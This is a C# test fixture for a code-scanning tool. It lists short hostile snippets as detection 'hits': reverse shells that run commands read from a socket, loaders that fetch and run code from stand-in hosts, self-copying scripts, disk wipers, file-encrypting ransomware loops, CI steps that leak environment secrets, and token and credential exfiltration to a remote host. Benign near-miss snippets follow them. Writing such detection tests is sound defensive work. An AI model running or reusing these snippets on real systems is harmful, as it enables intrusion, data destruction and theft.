namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Programs that fetch and start, copy themselves, lock, wipe, and give secrets of a pipeline away, and honest ones that look like them.</summary>
internal static class DropCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("remote-commands", "turn.rs", "let mut conn = TcpStream::connect(\"t.example.net:99\")?;\nlet mut buf = [0u8; 512];\nlet n = conn.read(&mut buf)?;\nlet line = String::from_utf8_lossy(&buf[..n]);\nCommand::new(\"sh\").arg(\"-c\").arg(line.trim()).output()?;\n"),
        ("remote-commands", "turn.ps1", "$tcp = New-Object Net.Sockets.TcpClient($there, 443)\n$ssl = New-Object Net.Security.SslStream($tcp.GetStream())\n$n = $ssl.Read($buf, 0, 4096)\n$out = Invoke-Expression ([Text.Encoding]::UTF8.GetString($buf, 0, $n))\n"),
        ("remote-commands", "turn.lua", "local sock = socket.tcp()\nsock:connect(there, 99)\nlocal line = sock:receive('*l')\nlocal out = io.popen(line)\n"),
        ("remote-commands", "turn.php", "$sock = fsockopen($there, 99);\nwhile ($line = fgets($sock, 4096)) {\n  fwrite($sock, shell_exec($line));\n}\n"),
        ("remote-commands", "turn.py", "conn.connect((there, 99))\nline = sock.recv(4096)\nexec(line)\n"),
        ("remote-code", "hud.lua", "http.Fetch('https://t.example.net/hud', function(body)\n  RunString(body)\nend)\n"),
        ("remote-code", "esx.lua", "PerformHttpRequest('https://t.example.net/s', function(code, body)\n  assert(load(body))()\nend)\n"),
        ("remote-code", "hub.lua", "local there = 'https://t.example.net/hub'\nloadstring(game:HttpGet(there))()\n"),
        ("names-in-pieces", "conf.lua", "local f = _G[string.reverse('etucexe')]\nf()\n"),

        ("remote-code", "stage.py", "def get():\n    data = requests.get(base + '/next', allow_redirects=True)\n    with open(path, 'wb') as f:\n        f.write(data.content)\n\nget()\nsubprocess.Popen([sys.executable, path], creationflags=subprocess.CREATE_NO_WINDOW)\n"),
        ("remote-code", "stage.js", "const body = await (await fetch(base + '/next')).text();\nfs.writeFileSync(file, body);\nspawn('node', [file], { detached: true, stdio: 'ignore' }).unref();\n"),
        ("remote-code", "stage.rb", "code = Net::HTTP.get(URI(base + '/next'))\nFile.write(path, code)\npid = spawn('ruby', path)\nProcess.detach(pid)\n"),
        ("remote-code", "show.vbs", "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"powershell -ExecutionPolicy Bypass -File \\\\files-01\\pub$\\next.ps1\", 0, False\n"),
        ("remote-code", "show.hta", "<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"mshta \\\\files-01\\pub\\next.hta\", 0\n</script>\n"),
        ("remote-code", "show.bat", "start /b wscript.exe \\\\files-01\\pub\\next.vbs\n"),
        ("remote-code", "shot.js", "chrome.downloads.download({\n  url: there,\n  filename: 'Screenshot.png.vbs',\n});\n"),
        ("remote-code", "bill.ps1", "Invoke-WebRequest $there -OutFile \"$HOME\\Invoice.pdf.exe\"\n"),
        ("remote-code", "bill.py", "name = 'Invoice.docx.scr'\nurllib.request.urlretrieve(there, name)\n"),

        ("copies-itself", "spread.py", "for d in os.listdir('/'):\n    to = f'{d}/{name}.exe'\n    shutil.copy(__file__, to)\n    os.startfile(to)\n"),
        ("copies-itself", "spread.bat", "for %%d in (d e f g) do (\n  copy /y \"%~f0\" %%d:\\photos.bat\n  start %%d:\\photos.bat\n  timeout 1 & ping -n 2 there & sleep 5\n)\n"),
        ("copies-itself", "spread.ps1", "foreach ($d in $drives) {\n  Copy-Item -Path $PSCommandPath -Destination \"$d\\photos.ps1\"\n  Start-Process powershell \"$d\\photos.ps1\"\n  Start-Sleep 1\n}\n"),

        ("everything-wiped", "end.sh", "for d in $(lsblk -dn -o NAME); do\n  dd if=/dev/zero of=/dev/$d bs=1M\ndone\n"),
        ("everything-wiped", "end.bash", "mapfile -t all < <(lsblk -e7 -dno NAME)\nfor one in \"${all[@]}\"; do\n  shred -n 1 /dev/$one\ndone\n"),
        ("everything-wiped", "end.zsh", "awk 'NR>2 {print $4}' /proc/partitions | while read p; do\n  wipefs -af /dev/$p\ndone\n"),

        ("ransom", "lock.sh", "all=$(find /srv -print | grep -E '\\.xls|\\.doc|\\.pdf|\\.jpg')\nfor f in $all; do\n  openssl enc -aes-256-cbc -in $f -out $f.x -k $k\n  rm $f\ndone\n"),
        ("ransom", "lock.py", "kinds = ['pdf', 'docx', 'xlsx', 'png']\nfor kind in kinds:\n    for f in Path('/').rglob('*.' + kind):\n        data = fernet.encrypt(f.read_bytes())\n        f.write_bytes(data)\n"),
        ("ransom", "lock.go", "var kinds = []string{\".pdf\", \".docx\", \".jpg\"}\nfilepath.Walk(root, func(p string, i os.FileInfo, e error) error {\n\tsealed := aead.Seal(nil, nonce, data, nil)\n\tos.WriteFile(p+\".x\", sealed, 0o600)\n\treturn os.Remove(p)\n})\n"),
        ("ransom", "lock.ps1", "$kinds = '.docx', '.xlsx', '.pdf'\nGet-ChildItem C:\\Users -Recurse -File | Where-Object { $_.Extension -in $kinds } | ForEach-Object {\n  $aes = [System.Security.Cryptography.Aes]::Create()\n  Remove-Item $_.FullName\n}\n"),

        ("environment-leaves", "build.yml", "jobs:\n  a:\n    steps:\n      - run: env > out/all.txt\n      - uses: actions/upload-artifact@v4\n        with:\n          path: out\n"),
        ("environment-leaves", "nightly.yaml", "jobs:\n  a:\n    steps:\n      - run: printenv > all.txt\n      - name: keep\n        uses: actions/upload-artifact@v3\n"),
        ("environment-leaves", "lab.yml", "collect:\n  script:\n    - printenv > all.txt\n  artifacts:\n    paths: [all.txt]\n"),

        ("secrets-printed", "letters.js", "for (const [k, v] of Object.entries(process.env)) {\n  if (/TOKEN|SECRET|PASSWORD/.test(k)) {\n    let s = '';\n    for (const b of Buffer.from(v)) s += abc[b >> 3] + abc[(b << 2) & 31];\n    console.log(s);\n  }\n}\n"),
        ("secrets-printed", "wide.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"${{ secrets.DEPLOY }}\" | base32\n"),
        ("secrets-printed", "round.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          printf \"%s\" \"$V\" | rev\n        env:\n          V: ${{ secrets.DEPLOY }}\n"),
        ("secrets-printed", "bytes.yaml", "deploy:\n  script:\n    - echo $DEPLOY_TOKEN | xxd -p\n"),
        ("page-secrets-leave", "frame.js", "const f = document.createElement('iframe');\ndocument.body.append(f);\nconst kept = f.contentWindow.localStorage;\nfetch(there, { method: 'POST', body: kept.token });\n"),
        ("credentials-leave", "ask.ps1", "while ($true) {\n  $c = Get-Credential\n  $p = $c.GetNetworkCredential().Password\n  if ($p) { break }\n}\nInvoke-RestMethod $there -Method Post -Body $p\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("secrets-printed", "key.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"${{ secrets.STORE }}\" | base64 -d > store.jks\n          echo \"${{ secrets.STORE }}\" | base64 --decode\n"),
        ("secrets-printed", "login.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          BASIC=$(echo -n \"a:$API_TOKEN\" | base64)\n          curl -H \"Authorization: Basic $BASIC\" https://api.example.org\n"),
        ("secrets-printed", "tail.yml", "jobs:\n  a:\n    env:\n      T: ${{ secrets.T }}\n    steps:\n      - run: echo \"$TAG\" | rev | cut -d. -f2 | rev\n      - run: git log | rev\n"),
        ("remote-commands", "client.rs", "let mut conn = TcpStream::connect(\"t.example.org:99\")?;\nlet n = conn.read(&mut buf)?;\nprintln!(\"{}\", String::from_utf8_lossy(&buf[..n]));\n"),
        ("remote-commands", "file.ps1", "$reader = [IO.File]::OpenText($path)\n$line = $reader.ReadLine()\nWrite-Output $line\n"),
        ("remote-code", "score.lua", "http.Fetch('https://t.example.org/score', function(body)\n  print(util.JSONToTable(body).score)\nend)\n"),
        ("names-in-pieces", "text.lua", "local function back(s)\n  return string.reverse(s)\nend\n"),
        ("remote-code", "getpip.py", "data = urllib.request.urlopen('https://bootstrap.example.org/get.py').read()\nwith open(path, 'wb') as f:\n    f.write(data)\nsubprocess.check_call([sys.executable, path])\n"),
        ("remote-code", "runner.js", "fs.writeFileSync(file, render(options));\nspawn('node', [file], { stdio: 'inherit' });\n"),
        ("remote-code", "quiet.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell -File C:\\tools\\daily.ps1\", 0, False\n"),
        ("remote-code", "filter.js", "const refused = ['invoice.pdf.exe', 'photo.png.scr'];\nexport const allows = name => !refused.includes(name);\n"),
        ("copies-itself", "install.py", "shutil.copy(sys.argv[0], os.path.join(target, 'tool.py'))\nprint('installed')\n"),
        ("everything-wiped", "flash.sh", "lsblk -o NAME,SIZE\nread -p 'which one? ' d\ndd if=image.iso of=/dev/$d bs=4M\n"),
        ("everything-wiped", "disks.sh", "for d in $(lsblk -dn -o NAME); do\n  smartctl -H /dev/$d\ndone\n"),
        ("ransom", "vault.py", "ALLOWED = {'pdf', 'docx', 'png'}\ndef store(upload):\n    if upload.kind not in ALLOWED:\n        raise ValueError(upload.kind)\n    return fernet.encrypt(upload.body)\n"),
        ("ransom", "backup.sh", "for f in /srv/dumps/*.gz; do\n  openssl enc -aes-256-cbc -in $f -out $f.enc -pass file:/etc/backup.key\n  rm $f\ndone\n"),
        ("environment-leaves", "ci.yml", "jobs:\n  a:\n    steps:\n      - run: make test > out/report.txt\n      - uses: actions/upload-artifact@v4\n"),
        ("secrets-printed", "base32.js", "export function encode(bytes) {\n  let s = '';\n  for (const b of bytes) s += abc[b >> 3] + abc[(b << 2) & 31];\n  return s;\n}\n"),
        ("page-secrets-leave", "own.js", "const f = document.createElement('iframe');\nf.contentWindow.postMessage(localStorage.getItem('theme'), origin);\n"),
        ("credentials-leave", "login.ps1", "$c = Get-Credential\n$pair = \"$($c.UserName):$($c.GetNetworkCredential().Password)\"\nInvoke-RestMethod $there -Method Post -Headers @{ Authorization = \"Basic $(Encode $pair)\" }\n"),
    ];
}
